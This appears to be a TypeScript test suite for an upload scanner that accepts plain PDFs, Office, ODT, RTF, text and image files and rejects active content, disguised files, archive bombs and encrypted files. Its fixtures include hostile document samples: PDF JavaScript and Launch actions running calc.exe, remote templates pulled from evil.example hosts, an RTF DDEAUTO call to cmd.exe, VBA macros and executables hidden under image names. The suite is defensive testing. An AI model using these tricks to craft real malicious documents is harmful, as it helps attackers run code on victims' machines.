import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inspect } from '../../../src/apply/content/inspect.ts';
import {
  compound,
  contentTypes,
  doc,
  documentType,
  docx,
  jpg,
  objectStream,
  odt,
  packedStream,
  page,
  pages,
  pdf,
  pdfWith,
  png,
  relations,
  rtf,
  stream,
  xlsx,
  zip,
} from './samples.ts';

const javaScript = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const launch = '<< /S /Launch /F (calc.exe) >>';
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const projectType = 'application/vnd.ms-office.vbaProject';
const project = compound([{ name: 'VBA', type: 1 }]);
const relationsOf = (type: string, target: string, isExternal = false) =>
  relations([{ type, target, isExternal }]);
const settingsWith = (target: string) =>
  docx({ 'word/_rels/settings.xml.rels': relationsOf('attachedTemplate', target, true) });

describe('honest files are accepted', () => {
  test.each<[string, Buffer, string]>([
    ['PDF', pdfWith(''), 'pdf'],
    ['PDF after a mark of its encoding', Buffer.concat([Buffer.from('\ufeff'), pdfWith('')]), 'pdf'],
    ['PDF after blank lines', Buffer.concat([Buffer.from('\r\n\n  \n'), pdfWith('')]), 'pdf'],
    ['PDF that opens at a place', pdfWith('/OpenAction [3 0 R /XYZ null null 0]'), 'pdf'],
    ['PDF that goes to a page', pdfWith('/OpenAction 4 0 R', '<< /S /GoTo /D [3 0 R /Fit] >>'), 'pdf'],
    ['PDF with a named place', pdfWith('/OpenAction << /S /Named /N /FirstPage >>'), 'pdf'],
    [
      'PDF with links and a text about JavaScript',
      pdfWith(
        '/Outlines 5 0 R',
        stream('', 'BT (I write /JavaScript, /JS and /Launch (daily)) Tj ET'),
        '<< /Title (/S /JavaScript /JS) /A << /S /URI /URI (https://ada.example) >> >>',
      ),
      'pdf',
    ],
    ['PDF with packed objects', pdfWith('', objectStream(5, [page, '<< /A 1 >>'])), 'pdf'],
    [
      'PDF with a form without scripts',
      pdfWith(
        '/AcroForm << /Fields [4 0 R] /XFA 5 0 R >>',
        '<< /FT /Tx /T (name) >>',
        packedStream('', '<xdp:xdp xmlns:xdp="x"><template><field name="a"/></template></xdp:xdp>'),
      ),
      'pdf',
    ],
    [
      'PDF with an attached file, as Europass makes it',
      pdfWith(
        '/Names << /EmbeddedFiles << /Names [(cv.xml) 4 0 R] >> >>',
        '<< /Type /Filespec /EF << /F 5 0 R >> >>',
        packedStream('/Type /EmbeddedFile', '<xml/>'),
      ),
      'pdf',
    ],
    ['.doc', doc(), 'doc'],
    [
      '.doc with the theme that Word keeps as an archive',
      Buffer.concat([doc(), xlsx(), Buffer.alloc(700)]),
      'doc',
    ],
    ['RTF', rtf(), 'rtf'],
    ['RTF with a template of the computer', rtf('{\\*\\template C:\\\\Users\\\\Ada\\\\CV.dotm}'), 'rtf'],
    ['RTF with links', rtf('{\\field{\\*\\fldinst{HYPERLINK "https://dde.example"}}{\\fldrslt me}}'), 'rtf'],
    ['.docx', docx(), 'docx'],
    ['.docx made from a template', settingsWith('file:///C:\\Users\\Ada\\Templates\\CV%20(1).dotx'), 'docx'],
    ['.docx made from a template of a Mac', settingsWith('file:///Users/ada/Templates/CV.dotx'), 'docx'],
    [
      '.docx with a chart',
      docx({
        'word/charts/_rels/chart1.xml.rels': relationsOf('package', '../embeddings/Table.xlsx'),
        'word/embeddings/Table.xlsx': xlsx(),
      }),
      'docx',
    ],
    [
      '.docx with relationships in UTF-16',
      docx({ '_rels/.rels': Buffer.from(`\ufeff${relationsOf('officeDocument', 'a')}`, 'utf16le') }),
      'docx',
    ],
    ['.odt', odt(), 'odt'],
    ['.txt', Buffer.from('Zażółć gęślą jaźń\r\n\t'), 'txt'],
    ['.txt of one word', Buffer.from('hello'), 'txt'],
    ['.txt in Latin', Buffer.from('Gr\xfc\xdfe', 'latin1'), 'txt'],
    ['.txt in UTF-16', Buffer.from('\ufeffGrüße\r\n', 'utf16le'), 'txt'],
    ['.txt in UTF-16, the other way round', Buffer.from('\ufeffGrüße', 'utf16le').swap16(), 'txt'],
    ['JPEG', jpg, 'jpg'],
    ['PNG', png, 'png'],
  ])('%s', async (_, bytes, type) => {
    expect(await inspect(bytes)).toBe(type);
  });
});

describe('active content is refused', () => {
  test.each<[string, Buffer]>([
    ['PDF with JavaScript on opening', pdfWith(`/OpenAction ${javaScript}`)],
    ['… in an object of its own', pdfWith('/OpenAction 4 0 R', javaScript)],
    ['… among its names', pdfWith('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', '<< >>')],
    ['… with escaped names', pdfWith('/Open#41ction << /#53 /Java#53cript /J#53 (x) >>')],
    ['… whose type is an object of its own', pdfWith('/OpenAction << /S 4 0 R >>', '/JavaScript')],
    ['… in an event of a page', pdfWith('', `<< /Type /Page /AA << /O ${javaScript} >> >>`)],
    ['… behind a harmless action', pdfWith(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${javaScript} >>`)],
    ['… in a packed object', pdfWith('/OpenAction 5 0 R', objectStream(5, ['1', javaScript]))],
    ['… in one that does not say so', pdfWith('/OpenAction 5 0 R', objectStream(5, [javaScript], ''))],
    [
      '… in one whose length is an object',
      pdfWith(
        '',
        Buffer.from(
          objectStream(5, [javaScript])
            .toString('latin1')
            .replace(/\/Length \d+/, '/Length 5 0 R'),
          'latin1',
        ),
        '9999',
      ),
    ],
    ['… in a key that comes twice', pdfWith(`/OpenAction [3 0 R /Fit] /OpenAction ${javaScript}`)],
    [
      '… in an object within a stream, which a broken table of contents leads to',
      pdfWith('/OpenAction 9 0 R', stream('', `9 0 obj ${javaScript} endobj`)),
    ],
    ['… with a comment in it', pdfWith('/OpenAction <</S%(\n/JavaScript%)\n/JS(x)>>')],
    ['… in a dictionary that does not end', Buffer.from('%PDF-1.4\n1 0 obj << /JS (x) /A ')],
    [
      '… in a form',
      pdfWith('/AcroForm << /XFA [(t) 4 0 R] >>', packedStream('', '<x:script>x()</x:script>')),
    ],
    ['PDF that starts a program', pdfWith(`/OpenAction ${launch}`)],
    ['… in a link', pdfWith('', `<< /Type /Annot /A ${launch} >>`)],
    ['PDF that opens an address', pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>')],
    ['… in an event', pdfWith('/AA << /D << /S /SubmitForm /F (https://evil.example) >> >>')],
    ['… after another action', pdfWith('/OpenAction << /S /GoTo /Next [4 0 R] >>', '<< /S /URI >>')],
    ['.doc with macros', doc({ name: 'Macros', type: 1 })],
    ['.doc with a VBA project', doc({ name: '_VBA_PROJECT', type: 2 })],
    ['.doc with a VBA project in other letters', doc({ name: '_vba_project_cur', type: 1 })],
    [
      '.doc with an OLE object',
      compound([
        { name: 'WordDocument', type: 2 },
        { name: 'ObjectPool', type: 1, hasChildren: true },
      ]),
    ],
    [
      '.docx with macros by its type',
      docx({ '[Content_Types].xml': contentTypes({ '/word/document.xml': macroType }) }),
    ],
    [
      '… by a type with an entity in it',
      docx({
        '[Content_Types].xml': contentTypes({
          '/word/document.xml': documentType,
          '/word/a.xml': projectType.replace('vba', '&#118;ba'),
        }),
      }),
    ],
    [
      '… by a relationship to a part of another name',
      docx({
        'word/_rels/document.xml.rels': relationsOf(
          'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
          'media/me.png',
        ),
      }),
    ],
    ['… in a part of another name', docx({ 'word/media/me.png': project })],
    ['… in the table of a chart', docx({ 'word/embeddings/a.xlsx': xlsx({ 'xl/vbaProject.bin': project }) })],
    ['… in a document in a document', docx({ 'word/a.docx': docx({ 'word/b.docx': docx() }) })],
    ['.docx with a template of the Web', settingsWith('https://evil.example/a.dotm')],
    ['… of a share', settingsWith('\\\\evil.example\\a.dotm')],
    ['… of a share, by an address', settingsWith('file://evil.example/a.dotm')],
    ['… with escapes', settingsWith('file:///%5C%5Cevil.example/a.dotm')],
    ['… with entities and spaces', settingsWith(' ht&#10;tps://evil.example/a.dotm')],
    [
      '… with another prefix',
      docx({
        'word/_rels/settings.xml.rels':
          '<r:Relationships xmlns:r="x"><r:Relationship Type="a/attachedTemplate" Target="http://e.example/a" TargetMode="External"/></r:Relationships>',
      }),
    ],
    [
      '.docx with an OLE object',
      docx({ 'word/_rels/a.rels': relationsOf('oleObject', 'embeddings/oleObject1.bin') }),
    ],
    ['… elsewhere', docx({ 'word/_rels/a.rels': relationsOf('oleObject', 'mhtml:https://e.example', true) })],
    [
      '.docx with a frame elsewhere',
      docx({ 'word/_rels/a.rels': relationsOf('frame', 'https://e.example', true) }),
    ],
    [
      '.docx with a picture of a share',
      docx({ 'word/_rels/a.rels': relationsOf('image', 'file://e.example/a', true) }),
    ],
    ['.docx with RTF in it', docx({ 'word/a.rtf': rtf('{\\object\\objdata 0105}') })],
    ['.docx with a program', docx({ 'word/media/a.exe': 'x' })],
    ['… under another name', docx({ 'word/media/a.png': 'MZ\x90' })],
    ['.odt with Basic', odt({ 'Basic/Standard/Module1.xml': '<x/>' })],
    ['.odt with scripts', odt({ 'Scripts/python/a.py': 'x' })],
    ['… in the folder of an object', odt({ 'Object 1/Basic/a.xml': '<x/>' })],
    [
      '.odt with an event',
      odt({
        'content.xml': '<o:d xmlns:o="o" xmlns:s="s"><s:event-listener s:event-name="dom:load"/></o:d>',
      }),
    ],
    [
      '.odt with a link to a script',
      odt({ 'styles.xml': '<a x:href="vnd.sun.star.script:a$b?language=Python"/>' }),
    ],
    ['.odt with an OLE object', odt({ 'Object 1': project })],
    ['RTF with an object', rtf('{\\object\\objemb{\\*\\objdata 0105000002}}')],
    ['… with line breaks in it', rtf('{\\object\r\n{\\*\\obj\r\nda\0ta\r\n0105}}')],
    ['… that is linked', rtf('{\\object\\objautlink x}')],
    ['RTF with a template of the Web', rtf('{\\*\\template https://evil.example/a}')],
    ['… in escapes', rtf("{\\*\\template \\u104 ?\\'74\\u116?p://evil.example/a}")],
    ['RTF with DDE', rtf('{\\field{\\*\\fldinst{DDEAUTO c:\\\\\\\\cmd.exe}}}')],
  ])('%s', async (_, bytes) => {
    expect(await inspect(bytes)).toBe('active');
  });
});

describe('what is not what it says is refused', () => {
  const archive = zip({ 'a.txt': 'hello' });
  const padded = Buffer.concat([archive, Buffer.alloc(300_000, ' ')]);
  const local = Buffer.from(
    'PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\x05\0\0\0\x05\0\0\0\x05\0\0\0a.exe',
    'latin1',
  );
  test.each<[string, Buffer, string]>([
    ['five bytes of a PDF', Buffer.from('%PDF-'), 'txt'],
    ['… with a version', Buffer.from('%PDF-1.7'), 'damaged'],
    ['five bytes of RTF', Buffer.from('{\\rtf'), 'damaged'],
    ['the start of a JPEG', Buffer.from('ffd8ffe0ff', 'hex'), 'damaged'],
    ['the start of a PNG', png.subarray(0, 8), 'damaged'],
    ['the start of a .doc', doc().subarray(0, 520), 'damaged'],
    ['nothing', Buffer.alloc(0), 'damaged'],
    ['a page', Buffer.from('<!doctype html><script>'), 'damaged'],
    ['a page in UTF-16', Buffer.from('\ufeff <html>', 'utf16le'), 'damaged'],
    ['a script', Buffer.from('#!/bin/sh\n'), 'damaged'],
    ['a program', Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), 'damaged'],
    ['half a character in UTF-16', Buffer.from('fffe3d', 'hex'), 'damaged'],
    ['an archive behind a PDF', Buffer.concat([pdfWith(''), archive]), 'damaged'],
    ['… with much behind it', Buffer.concat([pdfWith(''), padded]), 'damaged'],
    ['… without its end', Buffer.concat([pdfWith(''), local]), 'damaged'],
    [
      '… of another kind',
      Buffer.concat([pdfWith(''), Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1')]),
      'damaged',
    ],
    ['an archive behind a picture', Buffer.concat([jpg, padded]), 'damaged'],
    ['an archive behind a .doc', Buffer.concat([doc(), archive]), 'damaged'],
    ['something before an archive', Buffer.concat([docx().subarray(0, 40), docx()]), 'damaged'],
    ['an archive without a directory', Buffer.from('PK\x03\x04 and no directory', 'latin1'), 'damaged'],
    ['.ods as .odt', odt({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }), 'damaged'],
    ['.xlsx', xlsx(), 'damaged'],
    ['.xlsx with the parts of Word', docx({ '[Content_Types].xml': contentTypes({}) }), 'damaged'],
    ['.xls', compound([{ name: 'Workbook', type: 2 }]), 'damaged'],
    ['.docx with entities', docx({ '_rels/.rels': '<!DOCTYPE a [<!ENTITY b "vba">]><a/>' }), 'damaged'],
    [
      '.docx in an odd encoding',
      docx({ '_rels/.rels': '<?xml version="1.0" encoding="utf-7"?><a/>' }),
      'damaged',
    ],
    ['two parts of one name', docx({ 'WORD/document.xml': '<x/>' }), 'damaged'],
    ['a .doc that leads in a circle', compound([], (bytes) => bytes.writeUInt32LE(1, 512 + 4)), 'damaged'],
    ['a .doc whose table leads in a circle', compound([], (bytes) => bytes.writeUInt32LE(0, 68)), 'damaged'],
    ['a .doc without its directory', compound([], (bytes) => bytes.writeUInt32LE(900, 48)), 'damaged'],
    [
      'a PDF whose objects can not be unpacked',
      pdfWith('', stream('/N 1 /First 4 /Filter /FlateDecode', 'none at all')),
      'damaged',
    ],
    [
      '… and are packed in another way',
      pdfWith('', stream('/N 1 /First 4 /Filter /LZWDecode', 'no')),
      'damaged',
    ],
    ['a .docx that is a bomb', docx({ 'word/_rels/a.rels': new Uint8Array(33_000_000) }), 'bomb'],
    ['a PDF that is a bomb', pdfWith('', packedStream('/N 1 /First 4', Buffer.alloc(33_000_000))), 'bomb'],
    ['a PDF of brackets', Buffer.from(`%PDF-1.7 1 0 obj ${'['.repeat(10_000)}`), 'bomb'],
    ['a PDF of texts without an end', Buffer.from(`%PDF-1.7 ${'1 0 obj ('.repeat(20_000)}`), 'bomb'],
    ['a PDF of one key very often', pdfWith('/OpenAction 1 '.repeat(150_000)), 'pdf'],
    ['an archive of very many files', zipOf(5_001), 'bomb'],
    [
      '.odt with a password',
      odt({ 'META-INF/manifest.xml': '<m:a xmlns:m="m"><m:encryption-data/></m:a>' }),
      'locked',
    ],
    ['.docx with a password of an archive', encrypted(docx()), 'locked'],
    [
      'PDF with another kind of key',
      pdf(
        ['<< /Type /Catalog /Pages 2 0 R >>', pages, page, '<< /Filter /Adobe.PubSec /V 4 >>'],
        '/Encrypt 4 0 R',
      ),
      'locked',
    ],
  ])('%s', async (_, bytes, found) => {
    expect(await inspect(bytes)).toBe(found);
  });
});

/** An archive of empty files. */
function zipOf(count: number): Buffer {
  return zip(Object.fromEntries(Array.from({ length: count }, (_, at) => [`a${at}`, ''])));
}

/** The same archive, whose entries say that they are encrypted. */
function encrypted(bytes: Buffer): Buffer {
  const changed = Buffer.from(bytes);
  for (const [mark, flags] of [
    ['PK\x01\x02', 8],
    ['PK\x03\x04', 6],
  ] as const) {
    for (let at = changed.indexOf(mark); at >= 0; at = changed.indexOf(mark, at + 1)) changed[at + flags] = 1;
  }
  return changed;
}

describe('hostile bytes', () => {
  const samples = [
    pdfWith(
      '/OpenAction 5 0 R /AcroForm << /XFA 6 0 R >>',
      objectStream(5, [page]),
      packedStream('', '<x/>'),
    ),
    doc({ name: 'x', type: 2 }),
    docx({ 'word/embeddings/a.xlsx': xlsx() }),
    odt(),
    rtf('{\\*\\template x}{\\*\\fldinst y}'),
    Buffer.concat([pdfWith(''), deflateSync('x')]),
    jpg,
    png,
  ];

  test('changed in any places are answered, whatever they are', async () => {
    const change = fc.record({ at: fc.double({ min: 0, max: 1, noNaN: true }), byte: fc.nat(255) });
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...samples),
        fc.array(change, { minLength: 1, maxLength: 8 }),
        fc.double({ min: 0, max: 1, noNaN: true }),
        async (sample, changes, end) => {
          const bytes = Buffer.from(sample.subarray(0, Math.ceil(sample.length * (end < 0.5 ? 1 : end))));
          for (const { at, byte } of changes) bytes[Math.floor(at * bytes.length)] = byte;
          expect(await inspect(bytes)).toMatch(/^\w+$/);
        },
      ),
      { numRuns: 400 },
    );
  });

  test('of no format are answered behind each of the known starts', async () => {
    const start = fc.constantFrom(
      '%PDF-1.7 1 0 obj ',
      '{\\rtf1',
      'PK\x03\x04',
      '\xff\xd8\xff',
      '\xff\xfe',
      '',
    );
    await fc.assert(
      fc.asyncProperty(start, fc.uint8Array({ maxLength: 3_000 }), async (head, tail) => {
        expect(await inspect(Buffer.concat([Buffer.from(head, 'latin1'), tail]))).toMatch(/^\w+$/);
      }),
      { numRuns: 300 },
    );
  });
});
